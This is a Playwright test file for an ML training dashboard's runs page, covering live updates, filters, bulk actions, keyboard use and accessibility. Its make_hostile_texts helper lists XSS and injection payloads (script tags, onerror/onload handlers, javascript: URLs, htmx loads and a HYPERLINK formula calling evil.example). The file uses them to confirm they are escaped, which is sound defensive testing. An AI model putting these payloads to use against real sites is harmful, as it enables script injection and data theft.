"""The page *Runs* in a browser: live rows, filter, selection, keys, hostile texts, accessibility.

Each test has runs of its own, which it finds by a tag, so that one server serves all of them.
"""

import re
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

import vi
from tests.browser.conftest import Console, PageOf, Site, find_violations
from tests.support.fake_trainer import FakeTrainer, claim_run

WIDTHS = (360, 768, 1440)
THEMES = ("light", "dark")
SHIFT = """() => new Promise((resolve) => {
  window.shift = 0;
  new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) window.shift += entry.value;
  }).observe({ type: "layout-shift" });
  resolve();
})"""


@pytest.fixture(scope="module")
def client(site: Site) -> Iterator[vi.Client]:
    with site.client() as client:
        yield client


class Runs:
    """The runs of one test, which share a tag."""

    def __init__(self, site: Site, client: vi.Client) -> None:
        self.site, self.client = site, client
        self.tag = f"t{uuid.uuid4().hex[:8]}"
        self.path = f"/ui/runs?q=test%3D{self.tag}"
        self._trainers: list[FakeTrainer] = []

    def add(self, name: str, **attributes: str) -> str:
        """Create a waiting run."""
        metadata = {"test": self.tag, **attributes}
        return self.client.runs.create({"name": name}, metadata=metadata).run_id

    def train(self, name: str) -> FakeTrainer:
        """Create a run that trains."""
        run_id = self.add(name)
        trainer = claim_run(self.site.endpoint, self.site.data_dir)
        while trainer.run_id != run_id:  # runs of other tests wait too
            self._trainers.append(trainer)
            trainer = claim_run(self.site.endpoint, self.site.data_dir)
        self._trainers.append(trainer)
        trainer.step(1, 100, loss=2.0)
        return trainer

    def end(self) -> None:
        for trainer in self._trainers:
            trainer.close()
        self.client.runs.delete(filter={"attribute": {"test": self.tag}})


@pytest.fixture
def runs(site: Site, client: vi.Client) -> Iterator[Runs]:
    runs = Runs(site, client)
    yield runs
    runs.end()


def get_row(page: Page, run_id: str) -> Any:
    return page.locator(f"#run-{run_id}")


def test_rows_change_in_place_while_somebody_works(page_of: PageOf, runs: Runs) -> None:
    trainer = runs.train("trains")
    other = runs.add("waits")
    page = page_of(runs.site, runs.path)
    page.wait_for_function("() => document.querySelector('#live-text').textContent === 'live'")
    row = get_row(page, trainer.run_id)
    page.evaluate(SHIFT)
    get_row(page, other).locator("input").check()
    row.locator("a").first.focus()
    page.locator("#views-button").click()
    page.locator("#view-name").fill("half a na")

    trainer.step(50, 100, loss=0.25, seconds_left=240)
    expect(row).to_contain_text("50 % · 4 min left")
    runs.add("new")
    runs.client.runs.create({"name": "not of this list"})
    expect(page.locator("#new")).to_have_text("1 new · show")
    expect(page.locator("#chip-pending b")).to_have_text("2")
    trainer.report("warning", message="half way")
    runs.client.runs.kill(other)
    expect(get_row(page, other)).to_contain_text("Cancelled")

    assert page.evaluate("() => window.shift") <= 0.001
    expect(page.locator("#rows tr")).to_have_count(2)
    expect(get_row(page, other).locator("input")).to_be_checked()
    expect(page.locator("#view-name")).to_have_value("half a na")
    assert page.evaluate("() => document.activeElement.id") == "view-name"
    page.keyboard.press("Escape")

    page.locator("#new").click()
    expect(page.locator("#rows tr")).to_have_count(3)
    expect(page.locator("#new")).to_be_hidden()
    runs.client.runs.delete(other)
    expect(get_row(page, other)).to_contain_text("was deleted")


def test_filter_order_and_columns_are_in_the_address(page_of: PageOf, runs: Runs) -> None:
    for name, owner in (("ant", "kim"), ("bee", "noor"), ("cat", "kim")):
        runs.add(name, owner=owner)
    page = page_of(runs.site, runs.path)
    names = page.locator("#rows .c-name a")
    expect(names).to_have_text(["cat", "bee", "ant"])
    box = page.locator("#q")
    box.press("End")
    box.press_sequentially(" owner=kim")
    expect(names).to_have_text(["cat", "ant"])
    assert "owner%3Dkim" in page.url
    expect(box).to_be_focused()

    page.locator("th a", has_text="Name").click()
    expect(names).to_have_text(["ant", "cat"])
    expect(page.locator("th.c-name")).to_have_attribute("aria-sort", "ascending")
    page.locator("#columns-button").click()
    page.get_by_label("Dataset", exact=True).uncheck()
    expect(page.locator("th.c-dataset")).to_have_count(0)
    expect(page.locator("#columns")).to_be_visible()
    address = page.url

    page.locator("#chip-failed").click()
    expect(page.locator(".empty")).to_contain_text("No run matches")
    page.go_back()
    expect(names).to_have_text(["ant", "cat"])
    assert page.url == address
    expect(page.locator("th.c-dataset")).to_have_count(0)

    page.locator("#q").fill("owner=kim condition:Fialed")
    problem = page.locator("#filter-problem")
    expect(problem).to_contain_text("did you mean Failed?")
    expect(problem.locator("mark")).to_have_text("condition:Fialed")
    expect(names).to_have_text(["ant", "cat"])

    page.goto(address)
    expect(names).to_have_text(["ant", "cat"])
    page.locator("#views-button").click()
    page.locator("#view-name").fill(f"kim {runs.tag}")
    page.locator("#views").get_by_role("button", name="Save").click()
    link = page.locator("#views a", has_text=f"kim {runs.tag}")
    expect(link).to_have_attribute("aria-current", "page")
    page.get_by_role("button", name=f"Delete view kim {runs.tag}").click()
    expect(link).to_have_count(0)


def test_selected_runs_are_killed_tagged_and_deleted(page_of: PageOf, runs: Runs) -> None:
    waiting = [runs.add(f"run {number}") for number in range(3)]
    ended = runs.add("ended")
    runs.client.runs.kill(ended)
    page = page_of(runs.site, runs.path)
    dialog = page.locator("#action")

    for run_id in (waiting[0], ended):
        get_row(page, run_id).locator("input").check()
    page.get_by_role("button", name="Kill…").click()
    expect(dialog).to_contain_text("Kill 1 run?")
    expect(dialog).to_contain_text("1 run waits and is canceled at once")
    expect(dialog).to_contain_text("1 run already ended")
    expect(page.locator("#action-python")).to_contain_text(f'client.runs.kill("{waiting[0]}"')
    dialog.get_by_role("button", name="Kill 1 run").click()
    expect(dialog).to_contain_text("1 run killed")
    dialog.get_by_role("button", name="Close").click()
    expect(get_row(page, waiting[0])).to_contain_text("Cancelled")
    expect(page.locator("#bulk")).to_be_hidden()

    page.locator("#all-rows").check()
    expect(page.locator("#selected")).to_have_text("4")
    page.get_by_role("button", name="Tag…").click()
    page.get_by_label("Key", exact=True).fill("owner")
    page.get_by_label("Value", exact=True).fill("kim & <b>")
    dialog.get_by_role("button", name="Tag 4 runs").click()
    expect(dialog).to_contain_text("4 runs")
    dialog.get_by_role("button", name="Close").click()
    expect(get_row(page, waiting[1]).locator(".tag").first).to_have_text("owner=kim & <b>")
    get_row(page, waiting[1]).locator(".tag").first.click()
    expect(page.locator("#rows tr")).to_have_count(4)

    page.locator("#all-rows").check()
    page.get_by_role("button", name="Delete…").click()
    expect(dialog).to_contain_text("Delete 4 runs?")
    expect(dialog).to_contain_text("2 runs of them have not ended")
    dialog.get_by_role("button", name="Keep them").click()
    assert len(list(runs.client.runs(attribute={"test": runs.tag}))) == 4
    page.get_by_role("button", name="Delete…").click()
    dialog.get_by_role("button", name="Delete 4 runs").click()
    expect(dialog).to_contain_text("4 runs deleted")
    dialog.get_by_text("Receipt").click()
    expect(page.locator("#receipt")).to_contain_text(ended)
    dialog.get_by_role("button", name="Close").click()
    assert list(runs.client.runs(attribute={"test": runs.tag})) == []


def test_the_page_works_by_keyboard(page_of: PageOf, runs: Runs) -> None:
    first, second = runs.add("first"), runs.add("second")
    page = page_of(runs.site, runs.path)
    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(get_row(page, first).locator("a").first).to_be_focused()
    page.keyboard.press("k")
    page.keyboard.press("x")
    expect(get_row(page, second).locator("input")).to_be_checked()
    page.keyboard.press("Escape")
    expect(get_row(page, second).locator("input")).not_to_be_checked()
    page.keyboard.press("?")
    expect(page.locator("#keys")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#keys")).to_be_hidden()
    page.keyboard.press("/")
    expect(page.locator("#q")).to_be_focused()
    page.keyboard.type("x")
    expect(page.locator("#q")).to_have_value(re.compile("x$"))
    page.keyboard.press("Escape")
    page.keyboard.press("k")
    page.keyboard.press("Enter")
    page.wait_for_url("**/ui/runs/*")


def test_hostile_texts_stay_texts(page_of: PageOf, runs: Runs, console: Console) -> None:
    texts = make_hostile_texts(200)
    for start in range(0, len(texts), 20):
        some = texts[start : start + 20]
        attributes = {f"k{number} {text[:40]}": text for number, text in enumerate(some[10:])}
        runs.add(some[0], **attributes)
        for text in some[1:10]:
            runs.add(text)
    page = page_of(runs.site, "/ui/runs/new")  # which leads nowhere by itself
    foreign: list[str] = []
    page.on("request", lambda request: foreign.append(request.url))
    page.on("dialog", lambda dialog: foreign.append(dialog.message))
    page.goto(f"{runs.site.endpoint}{runs.path}")
    expect(page.locator("#rows tr")).to_have_count(50)
    page.locator(".pager a[rel=next]").click()
    expect(page.locator("#rows tr")).to_have_count(50)
    page.locator(".pager a[rel=prev]").click()
    expect(page.locator("#rows tr")).to_have_count(50)
    for text in texts[:20]:
        page.locator("#q").fill(text)
        page.wait_for_timeout(20)
    page.locator("#q").fill(f"test={runs.tag}")
    expect(page.locator("#rows tr")).to_have_count(50)
    page.locator("#all-rows").check()
    page.get_by_label("all 100 matching").check()
    page.get_by_role("button", name="Tag…").click()
    expect(page.locator("#action")).to_contain_text("Tag 100 runs")
    found = page.evaluate(
        """() => [...document.querySelectorAll("main *, dialog *")].filter((element) =>
          ["IMG", "SCRIPT", "IFRAME", "STYLE", "OBJECT", "B2", "X"].includes(element.tagName)
          || [...element.attributes].some(({ name, value }) => name.startsWith("on")
             || name === "style" || /^\\s*javascript:/i.test(value) && name === "href"))
          .map((element) => element.outerHTML.slice(0, 200))"""
    )
    assert found == []
    assert [url for url in foreign if not url.startswith(runs.site.endpoint)] == []
    assert page.evaluate("() => window.hacked") is None


def make_hostile_texts(number: int) -> list[str]:
    """Return texts that would become elements, handlers or requests if they were not escaped."""
    patterns = (
        "<script>window.hacked={}</script>",
        '"><img src=https://evil.example/{} onerror=window.hacked=1>',
        "' onmouseover='window.hacked={}",
        "</td></tr></table><x id=h{}>",
        "javascript:window.hacked={}",
        "<svg/onload=window.hacked={}>",
        "{{{{ 7*{} }}}}{{% raw %}}",
        "</title><iframe src=//evil.example/{}></iframe>",
        "<hx-partial hx-target=body>{}</hx-partial>",
        "\u202egnp.exe {} \u0007",
        "a&lt;b&gt; {} &amp;quot;",
        '<div hx-get="https://evil.example/{}" hx-trigger="load">',
        "${{window.hacked={}}} `x`",
        "<style>*{{display:none}}</style>{}",
        "--><!-- {} -->",
        '=HYPERLINK("https://evil.example/{}")',
        "%3Cscript%3E{}%3C/script%3E",
        "<b2 style=position:fixed;inset:0>{}",
        'x" autofocus onfocus=window.hacked={} y="',
        "<template hx type=partial>{}</template>",
    )
    return [patterns[i % len(patterns)].format(i) for i in range(number)]


@pytest.mark.parametrize("theme", THEMES)
def test_no_accessibility_rule_is_violated(page_of: PageOf, runs: Runs, theme: Any) -> None:
    trainer = runs.train("trains")
    trainer.step(40, 100, loss=0.5, seconds_left=60)
    failed = runs.train("fails")
    failed.finish(2, outcome="Failed", reason="OutOfMemory", message="no memory; try: less")
    runs.add("waits", owner="kim")
    page = page_of(runs.site, runs.path, color_scheme=theme, reduced_motion="reduce")
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 900})
        assert find_violations(page) == []
        assert page.evaluate("() => document.documentElement.scrollWidth") <= width
    page.locator("#all-rows").check()
    page.get_by_role("button", name="Kill…").click()
    expect(page.locator("#action")).to_contain_text("Kill 2 runs?")
    assert find_violations(page) == []
    page.locator("#action").get_by_role("button", name="Keep them").click()
    page.locator("#views-button").click()
    assert find_violations(page) == []
    page.keyboard.press("Escape")
    page.locator("#q").fill(f"test={runs.tag} condition:Succeeded")
    expect(page.locator(".empty")).to_be_visible()
    assert find_violations(page) == []
